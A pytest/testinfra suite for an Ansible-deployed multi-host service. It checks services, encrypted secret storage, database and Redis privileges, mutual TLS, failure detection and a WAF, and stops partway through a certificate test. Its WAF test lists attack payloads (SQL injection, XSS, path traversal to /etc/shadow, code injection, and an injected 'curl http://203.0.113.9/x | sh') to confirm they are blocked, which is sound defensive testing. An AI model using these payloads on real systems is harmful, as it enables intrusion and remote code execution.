"""The small tier end to end, deployed by matcraft.deploy.site from the Galaxy tarball.

The client of the public URL is site-monitor1 (matcraft.test resolves to
site-api1, the edge, on every host) or this controller (verify.yml). Tests run
in file order, those that take the `host` fixture first (pytest groups them):
the checks of the healthy deployment first, then the ones that
break something on purpose (a stopped worker, 5xx answers, a queue with no
consumer) and repair it, then the certificate mode switch, and last the
rotation of every secret.
"""

import hashlib
import json
import os
import re
import secrets
import subprocess
import time
from urllib.parse import quote

import pytest
import yaml

from helpers import Stream, address_of, assert_unit_running, curl_json, peer, probe_tcp, wait_for

testinfra_hosts = ["site-monitor1"]

DOMAIN = "matcraft.test"
EPHEMERAL = os.environ.get("MOLECULE_EPHEMERAL_DIRECTORY", "")
COLLECTIONS = os.path.join(EPHEMERAL, "collections")
INSTALLED = os.path.join(COLLECTIONS, "ansible_collections", "matcraft", "deploy")
WORKERS = ("site-worker1", "site-worker2")
WEBHOOK_UNIT = "matcraft-test-webhook"
WEBHOOK_OUTPUT = "/run/matcraft-test-webhook.jsonl"
# Test-only secrets of group_vars/all/zz_molecule.yml.
SCENARIO_VARS = yaml.safe_load(open(os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
                                                 "group_vars", "all", "zz_molecule.yml")))
SECRETS = {name: value for name, value in SCENARIO_VARS.items()
           if name == "matcraft_secret_key" or name.endswith(("_password", "_passphrase"))}


# --------------------------------------------------------------------------- helpers


def ansible_playbook(playbook, *extra, timeout=1800):
    """Run a playbook of the installed collection against the scenario's inventory."""
    env = os.environ.copy()
    env["ANSIBLE_COLLECTIONS_PATH"] = COLLECTIONS
    inventory = os.path.dirname(os.environ["MOLECULE_INVENTORY_FILE"])
    cmd = ["ansible-playbook", "-i", inventory, playbook] + list(extra)
    return subprocess.run(cmd, capture_output=True, text=True, env=env, timeout=timeout)


def edge_address():
    return address_of(peer("site-api1"))


def public(host, method, path, body=None, timeout=15):
    """(status, parsed JSON or text) of a request to https://matcraft.test from host (verified against the internal CA)."""
    return curl_json(host, method, "https://%s%s" % (DOMAIN, path), body, timeout)


def prometheus(host, path, **params):
    args = ["curl", "-sS", "-G", "--max-time", "15", "-u", "matcraft:" + SECRETS["matcraft_monitoring_web_password"]]
    for key, value in params.items():
        args += ["--data-urlencode", "%s=%s" % (key, value)]
    args += ["--cacert", "/etc/matcraft/pki/ca.crt", "https://%s:9090%s" % (address_of(host), path)]
    result = host.run(" ".join(["%s"] * len(args)), *args)
    assert result.rc == 0, result.stderr
    return json.loads(result.stdout)


def query(host, expr):
    body = prometheus(host, "/api/v1/query", query=expr)
    assert body["status"] == "success", body
    return body["data"]["result"]


def notified(host, alertname, severity=None):
    content = host.run("cat %s", WEBHOOK_OUTPUT).stdout
    found = []
    for line in content.splitlines():
        if not line.strip():
            continue
        for alert in json.loads(line).get("alerts", []):
            labels = alert.get("labels", {})
            if labels.get("alertname") == alertname and alert.get("status") == "firing" \
                    and (severity is None or labels.get("severity") == severity):
                found.append(alert)
    return found


@pytest.fixture(scope="module")
def webhook(host):
    """The webhook receiver Alertmanager's test-webhook receiver posts to (bounded: 15 min)."""
    host.run("systemctl stop %s", WEBHOOK_UNIT)
    host.run("systemctl reset-failed %s", WEBHOOK_UNIT)
    host.run("rm -f %s", WEBHOOK_OUTPUT)
    start = host.run("systemd-run --unit=%s --property=RuntimeMaxSec=900 /usr/bin/python3 "
                     "/usr/local/lib/webhook_recorder.py --listen 127.0.0.1:9999 --output %s",
                     WEBHOOK_UNIT, WEBHOOK_OUTPUT)
    assert start.rc == 0, start.stderr
    wait_for("the test webhook receiver", lambda: probe_tcp(host, "127.0.0.1", 9999, timeout=1), 30)
    yield host
    host.run("systemctl stop %s", WEBHOOK_UNIT)


# --------------------------------------------------------------------------- what was deployed


def test_the_collection_came_from_the_galaxy_tarball():
    """Converge ran matcraft.deploy.site from the tarball's installation: it holds the roles,
    playbooks, plugins, docs and example inventories, and nothing of the tests."""
    manifest = json.load(open(os.path.join(INSTALLED, "MANIFEST.json")))
    assert manifest["collection_info"]["name"] == "deploy"
    for path in ("roles/postgresql/tasks/main.yml", "playbooks/site.yml", "playbooks/verify.yml",
                 "plugins/filter/matcraft.py", "docs/security.md", "inventories/small/hosts.yml",
                 "inventories/medium/group_vars/all/tier.yml"):
        assert os.path.isfile(os.path.join(INSTALLED, path)), path
    for path in ("tests", "molecule", "benchmarks", ".ci", "Makefile"):
        assert not os.path.exists(os.path.join(INSTALLED, path)), path
    listed = subprocess.run(["ansible-galaxy", "collection", "list", "matcraft.deploy", "--format", "json"],
                            capture_output=True, text=True, env=dict(os.environ, ANSIBLE_COLLECTIONS_PATH=COLLECTIONS))
    assert listed.returncode == 0, listed.stderr
    assert list(json.loads(listed.stdout)) == [os.path.join(COLLECTIONS, "ansible_collections")], listed.stdout


def test_every_service_runs():
    units = {
        "site-api1": ["nginx", "matcraft-api", "prometheus-node-exporter", "prometheus-nginx-exporter", "mtail"],
        "site-worker1": ["matcraft-worker@default", "matcraft-worker-health"],
        "site-worker2": ["matcraft-worker@default", "matcraft-worker-health"],
        "site-db1": ["postgresql@15-main", "prometheus-postgres-exporter"],
        "site-redis1": ["redis-server", "prometheus-redis-exporter"],
        "site-monitor1": ["prometheus", "prometheus-alertmanager", "prometheus-blackbox-exporter"],
    }
    for name, names in units.items():
        for unit in names:
            assert_unit_running(peer(name), unit)


def test_the_services_log_no_error_at_start():
    """After the deploy, its second run and verify: no service logged an error. The journal's
    error priority on every host (sshd's connection noise aside), and the lines that the
    collection's own units print as plain output: gunicorn's [ERROR] (its control server failed
    on the sandbox's read-only $HOME before), Celery's ERROR/ lines, Python tracebacks."""
    own = re.compile(r"\[ERROR\]|\[CRITICAL\]|ERROR/|CRITICAL/|Traceback|Control server error")
    units = {"site-api1": ["matcraft-api"],
             "site-worker1": ["matcraft-worker@default", "matcraft-worker-health"],
             "site-worker2": ["matcraft-worker@default", "matcraft-worker-health"]}
    for name in ("site-api1", "site-worker1", "site-worker2", "site-db1", "site-redis1", "site-monitor1"):
        node = peer(name)
        errors = [json.loads(line) for line in node.run("journalctl -b -p err --no-pager -o json").stdout.splitlines()]
        errors = ["%s: %s" % (entry.get("SYSLOG_IDENTIFIER"), entry.get("MESSAGE")) for entry in errors
                  if entry.get("SYSLOG_IDENTIFIER") not in ("sshd", "kernel")]
        assert not errors, "%s logged errors:\n%s" % (name, "\n".join(errors[:20]))
        for unit in units.get(name, []):
            lines = node.run("journalctl -b --no-pager -o cat -u %s", unit).stdout.splitlines()
            bad = [line for line in lines if own.search(line)]
            assert not bad, "%s %s logged errors:\n%s" % (name, unit, "\n".join(bad[:20]))


def test_no_secret_in_a_world_readable_file():
    """Every test secret: in no file under /etc that others may read, on every host."""
    for name in ("site-api1", "site-worker1", "site-db1", "site-redis1", "site-monitor1"):
        node = peer(name)
        for secret in SECRETS.values():
            for form in {secret, quote(secret, safe="")}:
                found = node.run("grep -rlF -- %s /etc /opt/matcraft /var/lib/matcraft 2>/dev/null", form).stdout.split()
                readable = [path for path in found
                            if int(node.run("stat -c %%a %s", path).stdout.strip(), 8) & 0o004]
                assert not readable, "%s: a secret in world-readable %s" % (name, readable)


def _files_holding(name, patterns):
    """The files under /etc, /var (the journal included) and /opt of a scenario host that hold one
    of the patterns (lines), which grep reads on stdin, never on a command line. A file that
    vanishes while grep walks the tree (PostgreSQL's or Prometheus's own) is no finding; any other
    error fails."""
    found = _in_container(name, ["grep", "-rlF", "-D", "skip", "-f", "-", "/etc", "/var", "/opt"], patterns + "\n")
    errors = [line for line in found.stderr.splitlines() if not line.endswith(": No such file or directory")]
    assert found.returncode in (0, 1) or (found.returncode == 2 and not errors), (name, found.returncode, errors[:5])
    return found.stdout.split()


def test_the_application_s_secrets_rest_only_encrypted():
    """Security issue item 10: on every host of the small tier (API, workers, database, Redis,
    monitoring) no file under /etc, /var (the journal included) or /opt holds a secret in clear
    text, raw or URL-encoded; the application's environment file has none; the secrets are
    systemd credentials (root-only, encrypted with the host key) that the units load: the
    application's, the exporters', Prometheus's login, the Redis admin password; the sidecar
    gets the broker's URL only. (Grafana, not installed here, and an off-host backup repository's
    cipher passphrase are outside this test: docs/security.md.)"""
    patterns = "\n".join(sorted({form for secret in SECRETS.values() for form in (secret, quote(secret, safe=""))}))
    for name in ("site-api1",) + WORKERS:
        node = peer(name)
        found = _files_holding(name, patterns)
        assert not found, "%s: a secret in clear text in %s" % (name, found)
        env = node.run("cat /etc/matcraft/matcraft.env").stdout
        assert "DATABASE_URL=" in env and not re.search(r"^(REDIS_URL|SECRET_KEY)=", env, re.M)
        listing = node.run("stat -c '%n %U %a' /etc/matcraft/credentials /etc/matcraft/credentials/*.cred").stdout
        creds = ["pgpass", "redis-url", "secret-key"] + (["worker-health-redis-url"] if name in WORKERS else [])
        assert sorted(listing.split("\n")[1:-1]) == [
            "/etc/matcraft/credentials/%s.cred root 600" % cred for cred in creds], listing
        assert listing.startswith("/etc/matcraft/credentials root 700"), listing
        for cred in creds:
            path = "/etc/matcraft/credentials/%s.cred" % cred
            assert node.run("systemd-creds decrypt --name=%s %s - >/dev/null", cred, path).rc == 0, (name, cred)
            assert node.run("runuser -u matcraft -- cat %s", path).rc != 0, (name, cred)
    # In memory only: systemd decrypted them into each unit's credentials (a ramfs its user
    # alone reads); the sidecar got its broker URL and nothing else. gunicorn's settings file
    # and the credentials helper put them into the processes' environment.
    units = {"site-api1": ["matcraft-api"],
             WORKERS[0]: ["matcraft-worker@default", "matcraft-worker-health"]}
    for name, names in units.items():
        for unit in names:
            directory = "/run/credentials/%s.service" % unit
            loaded = peer(name).run("stat -f -c %%T %s && ls %s", directory, directory).stdout.split()
            expected = (["worker-health-redis-url"] if unit == "matcraft-worker-health"
                        else ["pgpass", "redis-url", "secret-key"])
            assert loaded == ["ramfs"] + expected, (unit, loaded)
    # Every other host of the small tier too: the database, Redis (its own admin password, made
    # there, a credential root decrypts, included) and monitoring hosts.
    admin = _in_container("site-redis1", ["systemd-creds", "decrypt", "--name=redis-admin",
                                          "/etc/matcraft/credentials/redis-admin.cred", "-"], "")
    assert admin.returncode == 0 and admin.stdout.strip(), admin.stderr
    for name in ("site-db1", "site-redis1", "site-monitor1"):
        found = _files_holding(name, patterns + "\n" + admin.stdout.strip())
        assert not found, "%s: a secret in clear text in %s" % (name, found)
    assert not peer("site-redis1").file("/etc/redis/admin.secret").exists
    # Prometheus logs in (to itself, to Alertmanager) with its password from a credential.
    monitor = peer("site-monitor1")
    assert not monitor.file("/etc/prometheus/self-scrape.password").exists
    # (run() without arguments: no %-formatting.)
    assert monitor.run("stat -c '%U %a' /etc/matcraft/credentials/prometheus-web-password.cred").stdout.split() == [
        "root", "600"]
    loaded = monitor.run("stat -f -c %T /run/credentials/prometheus.service && ls /run/credentials/prometheus.service")
    assert loaded.stdout.split() == ["ramfs", "prometheus-web-password"], loaded.stdout
    # The exporters' passwords: credentials their units load, in no file in clear text.
    exporters = (("site-db1", "prometheus-postgres-exporter", "data-source-pass", "matcraft_db_monitoring_password"),
                 ("site-redis1", "prometheus-redis-exporter", "redis-password", "matcraft_redis_exporter_password"))
    for name, unit, variable, secret in exporters:
        node, cred = peer(name), "%s-%s" % (unit, variable)
        listing = node.run("stat -c '%%U %%a' /etc/matcraft/credentials/%s.cred", cred).stdout.split()
        assert listing == ["root", "600"], (name, cred, listing)
        loaded = node.run("stat -f -c %%T /run/credentials/%s.service && ls /run/credentials/%s.service",
                          unit, unit).stdout.split()
        assert loaded == ["ramfs", cred], (unit, loaded)
        assert "PASS" not in node.run("cat /etc/matcraft/exporters/%s.env", unit).stdout, unit
        found = _files_holding(name, SECRETS[secret])
        assert not found, "%s: %s in clear text in %s" % (name, secret, found)
    sidecar = peer(WORKERS[0])
    pid = sidecar.run("systemctl show -p MainPID --value matcraft-worker-health").stdout.strip()
    environ = sidecar.run("tr '\\0' '\\n' < /proc/%s/environ", pid).stdout
    assert "REDIS_URL=rediss://matcraft_worker_health:" in environ
    assert "SECRET_KEY=" not in environ and "PGPASSFILE=" not in environ
    assert SECRETS["matcraft_redis_password"] not in environ


# As the sidecar's Redis user (its credential, decrypted by root on the worker host and
# handed over on stdin): what it may not do, then Celery's remote-control ping it exists for.
_SIDECAR_USER_PROBE = """
import importlib.util, sys, redis
spec = importlib.util.spec_from_file_location("sidecar", "/usr/local/lib/matcraft/matcraft_worker_health.py")
sidecar = importlib.util.module_from_spec(spec)
sys.modules["sidecar"] = sidecar  # its dataclasses look their module up
spec.loader.exec_module(sidecar)
url = sys.stdin.read()
client = redis.Redis.from_url(url, socket_timeout=5)
for command in (("GET", "x"), ("LPUSH", "celery", "x"), ("LLEN", "celery"), ("KEYS", "*"), ("FLUSHDB",),
                ("PUBLISH", "anything", "x"), ("CONFIG", "GET", "maxmemory")):
    try:
        client.execute_command(*command)
        print(command[0], "allowed")
    except redis.exceptions.NoPermissionError:
        print(command[0], "refused")
# The Celery app the sidecar builds for its broker URL.
app = sidecar.load_celery_app(None, url)
with app.connection_for_write() as conn:
    replies = app.control.inspect(timeout=5, connection=conn).ping() or {}
print("ping", len(replies))
"""


def test_the_sidecar_has_a_redis_user_of_its_own_that_only_pings():
    """Security issue item 10: the health sidecar's broker credential is a Redis user of its own
    (password derived from the application's), which may broadcast Celery's remote-control
    ping and read the replies, and neither read nor write the task queues nor anything else."""
    worker = WORKERS[0]
    url = peer(worker).run(
        "systemd-creds decrypt --name=worker-health-redis-url /etc/matcraft/credentials/worker-health-redis-url.cred -")
    assert url.rc == 0 and url.stdout.startswith("rediss://matcraft_worker_health:"), url.stderr
    probe = _in_container(worker, ["/opt/matcraft/current/venv/bin/python", "-c", _SIDECAR_USER_PROBE], url.stdout)
    assert probe.returncode == 0, probe.stderr[-2000:]
    results = dict(line.split(" ", 1) for line in probe.stdout.splitlines())
    for command in ("GET", "LPUSH", "LLEN", "KEYS", "FLUSHDB", "PUBLISH", "CONFIG"):
        assert results[command] == "refused", results
    assert int(results["ping"]) >= 2, results  # every worker of the scenario answered


# Runs in the API's sandbox as its user (matcraft-manage): the application's own DATABASE_URL
# and password file (from its credentials) try each statement.
_RUNTIME_DDL_PROBE = """
import json, os, sys, psycopg
url = os.environ["DATABASE_URL"]
results = {}
for statement in json.load(sys.stdin):
    try:
        with psycopg.connect(url, connect_timeout=5, autocommit=True) as conn:
            conn.execute(statement)
        results[statement] = "done"
    except psycopg.Error as exc:
        results[statement] = type(exc).__name__ + ": " + str(exc).splitlines()[0]
print(json.dumps(results))
"""


def test_the_application_cannot_change_the_schema_and_the_migrations_ran_as_the_owner():
    """Security issue item 9: every table the migrations made belongs to the owner role, which
    logged in with its client certificate from the migration host; the API's own database login
    (the runtime role) reads and writes but is refused every DDL statement. The owner's key is
    readable by root and the migration command's group only, not by the services' user."""
    db, api = peer("site-db1"), peer("site-api1")
    owners = db.run("runuser -u postgres -- psql -XAtq -d matcraft -c %s",
                    "SELECT DISTINCT tableowner FROM pg_tables WHERE schemaname = 'public'")
    assert owners.rc == 0 and owners.stdout.split() == ["matcraft"], owners.stdout + owners.stderr
    statements = ["SELECT count(*) FROM campaigns", "CREATE TABLE ddl_probe (id int)",
                  "DROP TABLE campaigns", "ALTER TABLE campaigns ADD COLUMN ddl_probe int",
                  "TRUNCATE campaigns", "SET ROLE matcraft"]
    probe = _in_container("site-api1", ["/usr/local/sbin/matcraft-manage", "python", "-c", _RUNTIME_DDL_PROBE],
                          json.dumps(statements))
    assert probe.returncode == 0, probe.stderr
    results = json.loads(probe.stdout)
    assert results["SELECT count(*) FROM campaigns"] == "done"
    assert results["CREATE TABLE ddl_probe (id int)"].startswith("InsufficientPrivilege"), results
    for statement in statements[2:]:
        assert results[statement].startswith("InsufficientPrivilege"), results
    key = api.file("/etc/matcraft/database-owner/client.key")
    assert (key.user, key.group, key.mode) == ("root", "matcraft-db-owner", 0o640)
    assert "matcraft-db-owner" not in api.run("id -nG matcraft").stdout.split()
    assert api.run("runuser -u matcraft -- cat /etc/matcraft/database-owner/client.key").rc != 0
    # The certificate proves the owner's name to PostgreSQL (cert method) and nothing else.
    subject = api.run("openssl x509 -noout -subject -ext extendedKeyUsage -in "
                      "/etc/matcraft/database-owner/client.crt")
    assert "CN = matcraft" in subject.stdout and "TLS Web Client Authentication" in subject.stdout, subject.stdout
    assert "Server Authentication" not in subject.stdout
    # The migration command itself connects as the owner: it reads the schema as the owner.
    who = api.run("%s --database-owner materia db current", "/usr/local/sbin/matcraft-manage")
    assert who.rc == 0 and "(head)" in who.stdout, who.stdout + who.stderr


# --------------------------------------------------------------------------- the verify playbook


def test_verify_playbook_passes():
    """matcraft.deploy.verify, run from this controller: every check passes and the report lists them."""
    run = ansible_playbook("matcraft.deploy.verify", "-e", "verify_public_address=" + edge_address())
    output = run.stdout
    assert run.returncode == 0, "verify failed:\n%s\n%s" % (output[-8000:], run.stderr[-2000:])
    for line in ("PASS  site-api1      api /health", "PASS  site-worker1   workers ping",
                 "PASS  site-worker2   workers ping", "PASS  site-db1       wal archiving",
                 "PASS  site-db1       full backup", "PASS  site-monitor1  prometheus targets",
                 "PASS  localhost      public /health", "PASS  localhost      certificate",
                 "PASS  localhost      job round trip", "PASS  site-monitor1  unacknowledged jobs"):
        assert line in output, "%r not in the report:\n%s" % (line, output[-6000:])
    assert "10 of 10 checks passed" in output
    for secret in SECRETS.values():
        assert secret not in output


def test_verify_playbook_fails_and_names_a_stopped_worker():
    worker = peer("site-worker2")
    stop = worker.run("systemctl stop matcraft-worker@default")
    assert stop.rc == 0, stop.stderr
    try:
        run = ansible_playbook("matcraft.deploy.verify", "-e", "verify_public_address=" + edge_address(),
                               "-e", '{"verify_skip": ["job"]}')
    finally:
        start = worker.run("systemctl start matcraft-worker@default")
    assert start.rc == 0, start.stderr
    assert run.returncode != 0, "verify passed with a stopped worker:\n" + run.stdout[-4000:]
    assert "FAIL  site-worker2   workers ping" in run.stdout, run.stdout[-4000:]
    assert "PASS  site-worker1   workers ping" in run.stdout
    # The report's summary: every check but the skipped job ran, one failed.
    assert "8 of 9 checks passed" in run.stdout, run.stdout[-3000:]
    wait_for("the sidecar of site-worker2 to answer 200 again",
             lambda: worker.run("curl -s -o /dev/null -w '%%{http_code}' http://%s:9808/health",
                                address_of(worker)).stdout == "200", 90, 2)


def archiver(db):
    """(failed_count, last attempt failed) of the database host's pg_stat_archiver."""
    row = db.run("runuser -u postgres -- psql -XAtq -c %s",
                 "SELECT failed_count, coalesce(last_failed_time > last_archived_time, false) FROM pg_stat_archiver")
    assert row.rc == 0, row.stderr
    failed, last_failed = row.stdout.strip().split("|")
    return int(failed), last_failed == "t"


def switch_wal(db):
    switched = db.run("runuser -u postgres -- psql -XAtq -d matcraft -c %s",
                      "CREATE TEMP TABLE verify_probe AS SELECT 1; SELECT pg_switch_wal()")
    assert switched.rc == 0, switched.stderr


def test_verify_playbook_fails_and_names_archiving_backup_certificate_and_targets():
    """Verify's other failure branches, each from a real fault: WAL archiving into a repository
    PostgreSQL cannot write to (its archive directories made read-only; pgbackrest info still reads
    them), a node_exporter stopped (Prometheus sees its target down), and the backup-age and
    certificate-days limits set above what this fresh environment has."""
    db, worker, monitor = peer("site-db1"), peer("site-worker1"), peer("site-monitor1")
    node_down = 'up{job="node",matcraft_host="site-worker1"} == 0'
    archive_dirs = "find /var/lib/pgbackrest/archive -mindepth 1 -type d -exec chmod %s {} +"
    try:
        assert db.run(archive_dirs % "a-w").rc == 0
        failed_before, _ = archiver(db)
        switch_wal(db)
        wait_for("archiving to fail", lambda: archiver(db)[0] > failed_before and archiver(db)[1], 60, 2)
        assert worker.run("systemctl stop prometheus-node-exporter").rc == 0
        wait_for("Prometheus to see site-worker1's node_exporter down", lambda: query(monitor, node_down), 60, 2)
        run = ansible_playbook("matcraft.deploy.verify", "-e", "verify_public_address=" + edge_address(),
                               "-e", '{"verify_skip": ["job"], "verify_backup_max_age_hours": 0,'
                               ' "verify_certificate_min_days": 100000}')
    finally:
        db.run(archive_dirs % "u+w")
        worker.run("systemctl start prometheus-node-exporter")
    output = run.stdout
    assert run.returncode != 0, "verify passed with four faults:\n" + output[-4000:]
    for line in ("FAIL  site-db1       wal archiving", "FAIL  site-db1       full backup",
                 "FAIL  site-monitor1  prometheus targets", "FAIL  localhost      certificate",
                 "PASS  site-api1      api /health", "PASS  site-worker1   workers ping",
                 "PASS  localhost      public /health"):
        assert line in output, "%r not in the report:\n%s" % (line, output[-6000:])
    assert "(limit 0 h)" in output, output[-4000:]
    targets_line = output.split("FAIL  site-monitor1")[1].splitlines()[0]
    assert "site-worker1" in targets_line, targets_line
    assert "5 of 9 checks passed" in output, output[-3000:]
    # Back to healthy for the tests after this one: archiving succeeds again, the target is up.
    switch_wal(db)
    wait_for("archiving to succeed again", lambda: not archiver(db)[1], 120, 2)
    wait_for("site-worker1's node target up again",
             lambda: query(monitor, 'up{job="node",matcraft_host="site-worker1"} == 1'), 60, 2)


# --------------------------------------------------------------------------- through the edge


def test_a_job_posted_over_https_through_the_edge_completes(host):
    status, created = public(host, "POST", "/v1/jobs", {"seconds": 0.5})
    assert status == 202, created
    done = wait_for("job %s done" % created["id"],
                    lambda: (lambda r: r[1] if r[0] == 200 and r[1]["state"] in ("done", "failed") else None)(
                        public(host, "GET", "/v1/jobs/%d" % created["id"])), 120, 2)
    assert done["state"] == "done", done


# One request of each attack family the Core Rule Set blocks at paranoia level 1, aimed at
# the real API's routes, in the query string, a JSON body or a header.
WAF_ATTACKS = (
    ("SQL injection, query", "GET", "/v1/campaigns?id=1%27%20OR%20%271%27%3D%271", (), None),
    ("SQL injection, JSON body", "POST", "/v1/campaigns", (),
     {"name": "x' UNION SELECT usename, passwd FROM pg_shadow--"}),
    ("cross-site scripting, query", "GET", "/v1/campaigns?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", (),
     None),
    ("cross-site scripting, JSON body", "POST", "/v1/campaigns", (), {"name": "<img src=x onerror=alert(1)>"}),
    ("path traversal", "GET", "/v1/jobs/1?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", (), None),
    ("OS file access", "GET", "/v1/campaigns?page=/etc/shadow", (), None),
    ("command injection, query", "GET", "/v1/campaigns?cmd=%3Bcat%20%2Fetc%2Fpasswd", (), None),
    ("command injection, JSON body", "POST", "/v1/jobs", (),
     {"queue": "default; curl http://203.0.113.9/x | sh", "seconds": 0.1}),
    ("PHP injection", "GET", "/v1/campaigns?x=%3C%3Fphp%20system(%27id%27)%3B%20%3F%3E", (), None),
    ("Java code injection", "POST", "/v1/campaigns", (), {"name": 'java.lang.Runtime.getRuntime().exec("id")'}),
    ("scanner", "GET", "/v1/campaigns", ("-A", "Nikto/2.1.6"), None),
    ("HTTP header injection", "GET", "/v1/campaigns?next=%0d%0aSet-Cookie:%20session=evil", (), None),
)


def edge_request(client, method, path, options=(), body=None):
    """(status, headers, body text) of one request to https://matcraft.test, sent as given."""
    cmd = ["curl", "-sS", "--max-time", "15", "--cacert", "/etc/matcraft/pki/ca.crt", "-D", "-", "-o", "/tmp/site-test-body",
           "-X", method] + list(options)
    if body is not None:
        cmd += ["-H", "Content-Type: application/json", "--data", json.dumps(body)]
    result = client.run(" ".join(["%s"] * (len(cmd) + 1)) + "; cat /tmp/site-test-body", *cmd,
                        "https://%s%s" % (DOMAIN, path))
    assert result.rc == 0, result.stderr
    head, _, text = result.stdout.partition("\r\n\r\n")
    lines = head.splitlines()
    headers = {name.strip().lower(): value.strip() for name, _, value in (line.partition(":") for line in lines[1:])}
    return int(lines[0].split()[1]), headers, text


def test_the_waf_blocks_attacks_on_the_real_api_and_passes_its_traffic(host):
    """inventories/small turns the WAF on in blocking mode: every attack family gets the edge's
    403 and never reaches the API (no row written), while the API's own traffic through the
    same edge passes (the rest of this suite, the rotation stream included, goes through it too)."""
    edge, db = peer("site-api1"), peer("site-db1")
    assert "modsecurity on;" in edge.run("nginx -T 2>/dev/null").stdout

    def campaigns():
        count = db.run("runuser -u postgres -- psql -d matcraft -Atc %s", "SELECT count(*) FROM campaigns")
        assert count.rc == 0, count.stderr
        return int(count.stdout)

    def denials():
        return int(edge.run("grep -c 'ModSecurity: Access denied with code 403' /var/log/nginx/error.log").stdout or 0)

    before, denied = campaigns(), denials()
    passed = []
    for family, method, path, options, body in WAF_ATTACKS:
        status, headers, text = edge_request(host, method, path, options, body)
        if status != 403 or headers.get("content-type") != "application/json" or json.loads(text) != {
                "detail": "Forbidden"}:
            passed.append((family, status, text[:200]))
        time.sleep(0.2)  # under the edge's rate limit
    assert not passed, "attacks not blocked by the WAF: %r" % passed
    assert denials() - denied == len(WAF_ATTACKS)
    assert campaigns() == before, "a blocked request wrote to the database"

    legitimate = ("Perovskite CsPbI3 band gap (x=0.35) - run #12", "Fe2O3/TiO2 baseline; see notes",
                  "LiNi0.8Mn0.1Co0.1O2 cathode < 4.3 V, select the best 10% by capacity",
                  "Alice's screen: 'high-entropy' alloys & oxides")
    for name in legitimate:
        status, _, text = edge_request(host, "POST", "/v1/campaigns", (), {"name": name})
        assert status == 201 and json.loads(text)["name"] == name, (status, text)
    token = "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJl"
    status, _, text = edge_request(host, "GET", "/v1/campaigns", ("-H", token))
    assert status == 200 and set(legitimate) <= {row["name"] for row in json.loads(text)}, (status, text[:300])
    status, headers, _ = edge_request(host, "OPTIONS", "/v1/jobs", (
        "-H", "Origin: https://dashboard.matcraft.test", "-H", "Access-Control-Request-Method: POST",
        "-H", "Access-Control-Request-Headers: authorization,content-type"))
    assert status == 200 and headers.get("access-control-allow-origin") == "https://dashboard.matcraft.test", headers
    status, _, text = edge_request(host, "POST", "/v1/jobs", ("-H", token), {"seconds": 0.1, "queue": "default"})
    assert status == 202, text
    job = json.loads(text)["id"]
    done = wait_for("job %s done" % job,
                    lambda: (lambda r: r[1] if r[0] == 200 and r[1]["state"] == "done" else None)(
                        public(host, "GET", "/v1/jobs/%d" % job)), 120, 2)
    assert done["state"] == "done"
    assert campaigns() == before + len(legitimate)
    assert denials() - denied == len(WAF_ATTACKS), "the WAF denied a legitimate request"


EDGE_CLIENT = "--cert /etc/matcraft/edge-client/client.crt --key /etc/matcraft/edge-client/client.key"


def test_edge_talks_tls_to_the_api_with_verification():
    edge = peer("site-api1")
    config = edge.run("nginx -T 2>/dev/null").stdout
    assert "proxy_ssl_verify on;" in config and "proxy_ssl_name api.matcraft.internal;" in config
    assert "proxy_ssl_certificate /etc/matcraft/edge-client/client.crt;" in config, "no client certificate upstream"
    address = address_of(edge)
    plain = edge.run("curl -sS --max-time 5 -o /dev/null -w '%%{http_code}' http://%s:8000/health", address)
    assert plain.stdout in ("000", "400"), plain.stdout
    served = edge.run("curl -sS --max-time 5 --cacert /etc/matcraft/pki/ca.crt " + EDGE_CLIENT + " --resolve "
                      "api.matcraft.internal:8000:%s https://api.matcraft.internal:8000/health", address)
    assert served.rc == 0 and json.loads(served.stdout) == {"status": "ok"}, served.stdout + served.stderr


def test_only_the_edge_s_client_certificate_opens_the_api():
    """Mutual TLS (hardening item 5): the API refuses, in the TLS handshake, a client without a
    certificate and one with a certificate of the internal CA (this host's own, valid for
    clientAuth); it answers the edge's certificate, which the edge client CA signed. No host but
    the edge holds such a certificate, and only the API hosts trust that CA. The monitoring host
    does not even reach the port; it checks the API through the edge (public_health)."""
    api = peer("site-api1")
    address = address_of(api)
    url = "https://%s:8000/health" % address
    # Whole command lines (run() without arguments: no %-formatting, no quoting of the options).
    base = "curl -sS --max-time 5 --cacert /etc/matcraft/pki/ca.crt -o /dev/null -w '%{http_code}' "
    refused = {
        "no certificate": api.run(base + url),
        "the host's internal-CA certificate": api.run(
            base + "--cert /etc/matcraft/pki/host.crt --key /etc/matcraft/pki/host.key " + url),
    }
    # Refused in the handshake: curl gets no HTTP answer at all (35 handshake failed, 52 empty reply,
    # 56 reset, by TLS 1.3's timing), where the same request with the edge's certificate gets 200.
    for what, run in refused.items():
        assert run.stdout == "000" and run.rc in (35, 52, 56), (what, run.rc, run.stdout, run.stderr)
    answered = api.run(base + EDGE_CLIENT + " " + url)
    assert answered.rc == 0 and answered.stdout == "200", (answered.stdout, answered.stderr)
    # The edge's certificate: from the edge client CA, for clients only.
    issuer = api.run("openssl x509 -in /etc/matcraft/edge-client/client.crt -noout -issuer -ext extendedKeyUsage").stdout
    assert "MatCraft edge client CA (site-test)" in issuer and "TLS Web Client Authentication" in issuer, issuer
    assert "Server Authentication" not in issuer, issuer
    mode = api.run("stat -c '%a %U %G' /etc/matcraft/edge-client/client.key").stdout.split()
    assert mode == ["640", "root", "root"], mode
    # What the API's gunicorn trusts for clients: the edge client CA, nothing else.
    trusted = api.run("openssl x509 -in /etc/matcraft/pki/edge-ca.crt -noout -subject").stdout
    assert "MatCraft edge client CA (site-test)" in trusted, trusted
    # No other host holds a certificate of that CA or trusts it.
    for name in ("site-worker1", "site-worker2", "site-db1", "site-redis1", "site-monitor1"):
        other = peer(name)
        assert not other.file("/etc/matcraft/edge-client").exists, name
        assert not other.file("/etc/matcraft/pki/edge-ca.crt").exists, name
        names = other.run("find /etc/matcraft /usr/local/share/ca-certificates -name '*.crt' "
                          "-exec openssl x509 -noout -subject -issuer -in {} ';'")
        assert names.rc == 0 and "edge client CA" not in names.stdout, (name, names.stdout, names.stderr)
    monitor = peer("site-monitor1")
    assert not probe_tcp(monitor, address, 8000), "the monitoring host reaches the API port"


def test_public_certificate_is_the_internal_ca_s():
    edge = peer("site-monitor1")
    chain = edge.run("openssl s_client -connect %s:443 -servername %s -verify_return_error "
                     "-CAfile /etc/matcraft/pki/ca.crt </dev/null 2>&1", edge_address(), DOMAIN).stdout
